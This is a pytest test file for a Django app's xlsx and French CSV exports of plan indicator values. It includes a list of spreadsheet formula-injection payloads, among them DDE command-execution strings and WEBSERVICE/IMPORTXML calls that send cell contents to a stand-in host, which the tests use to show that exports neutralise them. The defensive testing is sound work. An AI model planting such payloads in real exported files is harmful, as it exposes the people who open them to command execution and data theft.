"""All the values of a plan as a workbook and as a CSV file: the same rows, whole, safe, and recomputable."""

import csv
import datetime as dt
import re
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from ctg.documents.exports import export_values, export_values_as_csv
from ctg.documents.value_columns import COLUMNS
from indicators.figures.yearly import read_figures
from indicators.models import Absence, Kind, Measurement, Portion, State, Target
from tests import factories as f
from tests.documents.workbooks import xml_of

TODAY = dt.date(2026, 11, 22)
TITLES = [column.title for column in COLUMNS]


@pytest.fixture
def plan(db):
    return f.PlanFactory(territory__name="Communauté de communes du Val", first_year=2025, last_year=2028)


@pytest.fixture
def ccas(plan):
    return f.OrganisationFactory(territory=plan.territory, name="CCAS")


@pytest.fixture
def ask(plan, ccas):
    """ask(kind=…): an indicator of the plan that the CCAS enters, each year."""
    return lambda *organisations, **fields: f.IndicatorFactory(
        plan=plan, contributors=organisations or [ccas], **{"wording": "Familles", **fields}
    )


def value(indicator, organisation, year, amount=None, **fields):
    return f.MeasurementFactory(
        indicator=indicator, organisation=organisation, year=year, amount=amount, **fields
    )


def workbook(plan, year=None):
    return export_values(plan, year=year, today=TODAY).content


def sheet_by_openpyxl(content, name):
    titles, *rows = load_workbook(BytesIO(content))[name].values
    return [dict(zip(titles, row, strict=True)) for row in rows]


def sheet_by_calamine(content, name):
    titles, *rows = CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_name(name).to_python()
    return [dict(zip(titles, row, strict=True)) for row in rows]


def from_csv(plan, year=None):
    text = export_values_as_csv(plan, year=year, today=TODAY).content.decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text, newline=""), delimiter=";"))


def from_workbook(plan, year=None):
    return sheet_by_openpyxl(workbook(plan, year), "Valeurs")


# What the rows say.


def test_one_row_for_each_value_with_what_it_is(plan, ccas, ask):
    action = f.ActionFactory(plan=plan, number=3)
    indicator = ask(unit="familles", actions=[action, f.ActionFactory(plan=plan, number=12)])
    Target.objects.create(indicator=indicator, year=2026, value=1500)
    value(indicator, ccas, 2025, 96, state=State.VALIDATED)
    at = dt.datetime(2026, 11, 20, 23, 30, tzinfo=dt.UTC)
    value(indicator, ccas, 2026, Decimal("1240.5"), comment="Avec l’été.", channel="account", entered_at=at)
    before, row = from_workbook(plan)
    assert list(row) == TITLES
    assert (before["année"], before["valeur"], before["état"]) == (2025, 96, "validée")
    assert row == dict.fromkeys(TITLES) | {
        "plan": "Plan d’actions CTG",
        "actions": "3, 12",
        "indicateur": "Familles",
        "type": "nombre",
        "unité": "familles",
        "organisme": "CCAS",
        "période": "2026",
        "clé de période": "2026",
        "année": 2026,
        "état": "reçue",
        "niveau": "total",
        "valeur": 1240.5,
        "commentaire": "Avec l’été.",
        "cible de l’année": 1500,
        "canal": "compte",
        "saisie le": dt.datetime(2026, 11, 21, 0, 30),
    }
    assert from_csv(plan)[1] == dict.fromkeys(TITLES, "") | {
        "plan": "Plan d’actions CTG",
        "actions": "3, 12",
        "indicateur": "Familles",
        "type": "nombre",
        "unité": "familles",
        "organisme": "CCAS",
        "période": "2026",
        "clé de période": "2026",
        "année": "2026",
        "état": "reçue",
        "niveau": "total",
        "valeur": "1240,5",
        "commentaire": "Avec l’été.",
        "cible de l’année": "1500",
        "canal": "compte",
        "saisie le": "21/11/2026 00:30",
    }


def test_each_kind_has_its_numbers_in_their_columns(plan, ccas, ask):
    told = {
        Kind.SHARE: ({"amount": 27, "base": 120}, (22.5, 27, 120)),
        Kind.SCALE: ({"amount": Decimal("4.3"), "base": 41}, (4.3, None, 41)),
        Kind.DURATION: ({"amount": 12, "base": 30}, (12, None, 30)),
        Kind.DELIVERABLE: ({"amount": 1, "done_on": dt.date(2026, 3, 12)}, (1, None, None)),
        Kind.FINDING: ({"finding": "Mieux accueillis.", "verbatims": "« Enfin ! »"}, (None, None, None)),
    }
    for kind, (fields, _) in told.items():
        value(ask(kind=kind), ccas, 2026, **fields)
    rows = {row["type"]: row for row in from_workbook(plan, 2026)}
    for kind, (_, numbers) in told.items():
        row = rows[kind.label]
        found = (row["valeur"], row["numérateur"], row["dénominateur ou effectif"])
        assert found == numbers, kind
    assert rows[Kind.DELIVERABLE.label]["fait le"] == dt.datetime(2026, 3, 12)
    finding = rows[Kind.FINDING.label]
    assert (finding["constat"], finding["paroles choisies"]) == ("Mieux accueillis.", "« Enfin ! »")


def test_zero_is_zero_and_nothing_is_nothing(plan, ccas, ask):
    value(ask(wording="Zéro"), ccas, 2026, 0)
    value(ask(wording="Rien"), ccas, 2026, absence=Absence.UNTRACKED)
    zero, nothing = from_workbook(plan, 2026)
    assert (zero["valeur"], zero["sans valeur"]) == (0, None)
    assert (nothing["valeur"], nothing["sans valeur"]) == (None, "la donnée n’est pas suivie")
    assert [row["valeur"] for row in from_csv(plan, 2026)] == ["0", ""]


def test_a_breakdown_has_its_rows_under_its_value(plan, ccas, ask):
    towns = f.DimensionFactory(territory=plan.territory, name="Commune", categories=["Maule", "Crespières"])
    ages = f.DimensionFactory(territory=plan.territory, name="Âge", categories=["0-3 ans"])
    indicator = ask(first_dimension=towns, second_dimension=ages, kind=Kind.SHARE)
    Target.objects.create(indicator=indicator, year=2026, value=30)
    held = value(indicator, ccas, 2026, 30, base=120, comment="Une fois.")
    for town, amount in zip(towns.categories.all(), (20, 10), strict=True):
        Portion.objects.create(
            measurement=held, first=town, second=ages.categories.get(), amount=amount, base=80
        )
    rows = from_workbook(plan, 2026)
    assert [(row["niveau"], row["ventilation 1"], row["valeur"]) for row in rows] == [
        ("total", None, 25),
        ("part", "Commune\u00a0: Maule", 25),
        ("part", "Commune\u00a0: Crespières", 12.5),
    ]
    assert rows[1]["ventilation 2"] == "Âge\u00a0: 0-3 ans"
    assert [row["commentaire"] for row in rows] == ["Une fois.", None, None]
    assert [row["cible de l’année"] for row in rows] == [30, None, None]


# What is expected and missing.


def test_what_is_expected_and_missing_has_its_row(plan, ccas, ask):
    caf = f.OrganisationFactory(territory=plan.territory, name="Caf")
    value(ask(ccas, caf), ccas, 2026, 12)
    rows = from_workbook(plan)
    assert [(row["organisme"], row["année"], row["état"]) for row in rows] == [
        ("CCAS", 2025, "manquante"),
        ("CCAS", 2026, "reçue"),
        ("Caf", 2025, "manquante"),
        ("Caf", 2026, "manquante"),
    ]


def test_completeness_is_recomputed_as_the_pages_tell_it(plan, ccas, ask):
    others = f.OrganisationFactory.create_batch(3, territory=plan.territory)
    indicator = ask(ccas, *others, frequency="quarter")
    for quarter in (1, 2, 4):
        value(indicator, ccas, 2026, 12, period=f"2026-T{quarter}")
    value(indicator, others[0], 2026, 5, period="2026-T1")
    rows = from_workbook(plan, 2026)
    total = read_figures(plan, [indicator], today=TODAY)[indicator.pk].of_year(2026).total
    assert len(rows) == 16
    assert len({row["organisme"] for row in rows}) == total.expected == 4
    received = {row["organisme"] for row in rows if row["état"] != "manquante"}
    assert received == set(total.included)


@pytest.mark.parametrize("state", [State.DRAFT, State.RETURNED])
def test_what_is_not_sent_is_missing_to_everybody(plan, ccas, ask, state):
    value(ask(), ccas, 2026, 777, state=state, comment="Canari")
    content = workbook(plan)
    assert b"Canari" not in xml_of(content)
    assert [row["état"] for row in from_csv(plan, 2026)] == ["manquante"]
    assert not any("777" in str(row) for row in from_workbook(plan))


def test_what_is_entered_once_is_expected_once(plan, ask):
    ask(frequency="once")
    [row] = from_workbook(plan)
    assert (row["clé de période"], row["année"], row["état"]) == ("unique", 2026, "manquante")


def test_what_was_entered_once_is_neither_in_another_year_nor_missing_from_it(plan, ccas, ask):
    value(ask(frequency="once"), ccas, 2025, 4, period="unique")
    assert [row["année"] for row in from_workbook(plan, 2025)] == [2025]
    assert from_workbook(plan, 2026) == []


def test_a_period_to_come_is_not_missing(plan, ask):
    ask(frequency="month")
    keys = [row["clé de période"] for row in from_workbook(plan, 2026)]
    assert keys[-1] == "2026-11" and len(keys) == 11
    assert from_workbook(plan, 2027) == []


def test_the_value_of_somebody_who_is_no_contributor_any_more_is_in(plan, ccas, ask):
    indicator = ask()
    value(indicator, f.OrganisationFactory(territory=plan.territory, name="Ancien"), 2026, 4)
    assert [row["organisme"] for row in from_workbook(plan, 2026)] == ["Ancien", "CCAS"]


def test_what_is_in_the_trash_is_out(plan, ccas, ask):
    value(ask(trashed_at=timezone.now()), ccas, 2026, 4)
    value(ask(), ccas, 2026, 5, trashed_at=timezone.now())
    assert [row["état"] for row in from_workbook(plan, 2026)] == ["manquante"]


def test_one_year_keeps_that_year(plan, ccas, ask):
    indicator = ask()
    for year in (2025, 2026):
        value(indicator, ccas, year, year)
    assert [row["valeur"] for row in from_workbook(plan, 2025)] == [2025]
    assert [row["valeur"] for row in from_csv(plan, 2025)] == ["2025"]
    totals = sheet_by_openpyxl(workbook(plan, 2025), "Totaux")
    assert [row["année"] for row in totals] == [2025]


def test_a_plan_without_indicators_is_a_file_of_titles(plan):
    assert from_workbook(plan) == from_csv(plan) == []
    assert [sheet.title for sheet in load_workbook(BytesIO(workbook(plan)))] == [
        "Valeurs",
        "Totaux",
        "Dictionnaire",
    ]


# Totals and dictionary.


def test_totals_are_those_of_the_pages_and_say_what_they_contain(plan, ccas, ask):
    caf = f.OrganisationFactory(territory=plan.territory, name="Caf")
    share, apart = ask(ccas, caf, kind=Kind.SHARE), ask(kind=Kind.FINDING, wording="Constat")
    Target.objects.create(indicator=share, year=2026, value=30)
    value(share, ccas, 2025, 10, base=100, state=State.VALIDATED)
    value(share, ccas, 2026, 27, base=120)
    rows = sheet_by_openpyxl(workbook(plan), "Totaux")
    figures = read_figures(plan, [share, apart], today=TODAY)
    expected = [*(figures[share.pk].of_year(year) for year in (2025, 2026)), figures[share.pk].whole]
    for row, figure in zip(rows[:3], expected, strict=True):
        assert Decimal(str(row["valeur"])) == figure.total.value.quantize(Decimal("0.0001"))
        assert row["ce que le total contient"] == figure.total.contents
    assert [row["année"] for row in rows[:3]] == [2025, 2026, "toutes"]
    assert "il manque Caf" in rows[1]["ce que le total contient"]
    assert rows[1]["rapport à la cible"] == figures[share.pk].of_year(2026).comparison.words != ""
    assert rows[3]["valeur"] is None and rows[3]["pourquoi il n’y a pas de valeur"]


def test_every_column_is_in_the_dictionary(plan, ask):
    ask()
    told = sheet_by_openpyxl(workbook(plan), "Dictionnaire")
    assert [row["colonne"] for row in told] == TITLES
    assert all(row["ce qu’elle dit"] and row["ce qu’elle peut contenir"] for row in told)


def test_the_dictionary_allows_what_the_rows_hold(plan, ccas, ask):
    for kind in Kind:
        value(ask(kind=kind), ccas, 2025, absence=Absence.NOT_YET)
    content = workbook(plan)
    allowed = {
        row["colonne"]: row["ce qu’elle peut contenir"] for row in sheet_by_openpyxl(content, "Dictionnaire")
    }
    for row in sheet_by_openpyxl(content, "Valeurs"):
        for title in ("type", "état", "niveau", "sans valeur", "canal"):
            assert row[title] is None or f"«\u00a0{row[title]}\u00a0»" in allowed[title], title


# Texts that would do harm.

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.fr","Cliquez")',
    '=IMPORTXML(CONCAT("http://a.fr/",A1),"//a")',
    '=WEBSERVICE("http://a.fr")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    " =1+1",
    "   @A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "{=1}",
    "#N/A",
    "'=1+1",
    '"=1+1',
    '";=1+1',
    "a;=1+1",
    "a\n=1+1",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt;f&gt;1",
    "<![CDATA[=1]]>",
]
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\x00]")


def fill(plan, text):
    """A value of everything, called by the text in each of its texts, planted below every form."""
    plan.territory.name = plan.title = text[:60]
    plan.territory.save()
    plan.save()
    organisation = f.OrganisationFactory(territory=plan.territory, name=text[:200])
    dimension = f.DimensionFactory(territory=plan.territory, name=text[:100], categories=[text[:100]])
    indicator = f.IndicatorFactory(
        plan=plan, wording=text[:300], unit=text[:60], first_dimension=dimension, contributors=[organisation]
    )
    held = value(indicator, organisation, 2026, 4, finding=text, verbatims=text, comment=text)
    Portion.objects.create(measurement=held, first=dimension.categories.get(), amount=4)
    return held


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula(plan, payload):
    if connection.vendor == "postgresql":  # It stores no NUL: what is left of the payload is tried.
        payload = payload.replace("\x00", "")
    fill(plan, payload)
    content = workbook(plan)
    assert not re.search(rb"<f[ >]|ddeLink|oleLink|TargetMode|hyperlink", xml_of(content))
    for sheet in load_workbook(BytesIO(content)):
        assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "d"}
    [_, by_openpyxl, _], [_, by_calamine, _] = (
        read(content, "Valeurs") for read in (sheet_by_openpyxl, sheet_by_calamine)
    )
    assert by_openpyxl["commentaire"] == by_calamine["commentaire"]
    for row in from_csv(plan):
        for title, cell in row.items():
            is_number = re.fullmatch(r"-?\d+(,\d+)?", cell)
            assert is_number or not FORMULA.match(cell), (title, cell)


@pytest.mark.parametrize(
    "text",
    [
        "a\x01b\x0bc\x0cd",
        "mot " * 10_000,
        "👩‍👩‍👧‍👦 🏡 été",
        "مرحبا بالعالم שלום",
        'guillemets "doubles"; points-virgules; et\nlignes\r\nmêlées',
    ],
    ids=["controls", "40,000 characters", "emoji", "right to left", "separators"],
)
def test_whatever_is_stored_is_exported_whole(plan, text):
    from ctg.web.text import clean

    fill(plan, text)
    [_, row, _] = from_csv(plan)
    assert row["commentaire"].replace("\r\n", "\n") == clean(text)
    book = load_workbook(BytesIO(workbook(plan)))
    cell = sheet_by_openpyxl(workbook(plan), "Valeurs")[1]["commentaire"]
    if len(text) > 32_767:
        line = int(re.search(r"ligne (\d+)\)$", cell)[1])
        rows = [(source, part) for source, _, part, *_ in book["Textes longs"].values]
        source = rows[line - 1][0]
        assert "".join(part for at, part in rows if at == source) == clean(text)
    else:
        assert cell == clean(text)


def test_a_lone_surrogate_never_reaches_the_file():
    from ctg.documents.value_csv import cell

    assert cell("avant\ud800après") == "avantaprès"


@pytest.mark.parametrize(
    ("typed", "written"),
    [("-3", "-3"), ("+33", "+33"), ("-3,5", "-3,5"), ("-3 ans", "'-3 ans"), ("12/03/2026", "12/03/2026")],
)
def test_in_the_csv_file_a_text_that_is_a_number_stays_as_it_is(plan, ccas, ask, typed, written):
    value(ask(), ccas, 2026, 4, comment=typed)
    assert from_csv(plan, 2026)[0]["commentaire"] == written


def test_nobody_is_named(plan, ccas, ask):
    value(
        ask(),
        ccas,
        2026,
        4,
        entered_label="Dominique Canari",
        entered_by=f.UserFactory(first_name="Canari", email="canari@exemple.fr"),
        reviewed_label="Canari",
        return_note="Canari",
    )
    files = xml_of(workbook(plan)) + export_values_as_csv(plan, year=None, today=TODAY).content
    assert b"anari" not in files


# The file.


def test_the_workbook_is_ready_to_use_and_to_print(plan, ccas, ask):
    value(ask(), ccas, 2026, 4)
    book = load_workbook(BytesIO(workbook(plan)))
    for sheet in book:
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.freeze_panes.endswith("2")
        assert sheet.page_setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet["A1"].font.bold
    assert book["Valeurs"]["L2"].data_type == "n"
    assert book["Valeurs"]["I2"].data_type == "n"


def test_the_csv_file_is_what_a_french_spreadsheet_expects(plan, ccas, ask):
    value(ask(), ccas, 2026, Decimal("12.5"))
    content = export_values_as_csv(plan, year=None, today=TODAY).content
    assert content.startswith(b"\xef\xbb\xbfplan;actions;indicateur;")
    assert b";12,5;" in content
    assert content.count(b"\r\n") == 3


@pytest.mark.parametrize("name", ["value_workbook", "value_csv"])
def test_the_number_of_queries_grows_with_nothing(plan, ask, name):
    export = export_values if name == "value_workbook" else export_values_as_csv

    def cost():
        with CaptureQueriesContext(connection) as queries:
            export(plan, year=None, today=TODAY)
        return len(queries)

    def grow(count):
        for _ in range(count):
            organisation = f.OrganisationFactory(territory=plan.territory)
            town = f.DimensionFactory(territory=plan.territory, categories=["Maule"])
            indicator = ask(organisation, first_dimension=town, actions=[f.ActionFactory(plan=plan)])
            Target.objects.create(indicator=indicator, year=2026, value=3)
            for year in (2024, 2025, 2026):
                held = value(indicator, organisation, year, 4)
                Portion.objects.create(measurement=held, first=town.categories.get(), amount=4)

    grow(2)
    few = cost()
    grow(10)
    assert cost() == few <= 12


# The two addresses.


def address(plan, name):
    return reverse(f"documents:{name}", args=[plan.pk])


@pytest.mark.parametrize("name", ["value_workbook", "value_csv"])
def test_whoever_reads_the_plan_downloads_its_values(world, client_of, name):
    for reader in ("camille", "paul", "ines", "elise", "karim"):
        response = client_of(getattr(world, reader)).get(address(world.plan, name))
        assert response.status_code == 200, reader
    for stranger in ("nadia", "alex"):
        assert client_of(getattr(world, stranger)).get(address(world.plan, name)).status_code == 404
    extension = "xlsx" if name == "value_workbook" else "csv"
    file = f"valeurs-ctg-pays-de-rivemont-{timezone.localdate()}.{extension}"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{file}"')


def test_the_draft_of_her_own_organisation_is_not_in_the_file_of_a_member(world, client_of):
    Measurement.objects.update(state=State.DRAFT, comment="Canari")
    for who in ("camille", "paul"):
        content = client_of(getattr(world, who)).get(address(world.plan, "value_csv")).content
        assert "Canari" not in content.decode() and "manquante" in content.decode()


@pytest.mark.parametrize("asked", ["", "abc", "20266", "²²²²", "-202"])
def test_a_year_that_is_none_asks_for_all(world, client_of, asked):
    client = client_of(world.elise)
    everything = client.get(address(world.plan, "value_csv")).content
    assert client.get(address(world.plan, "value_csv"), {"annee": asked}).content == everything
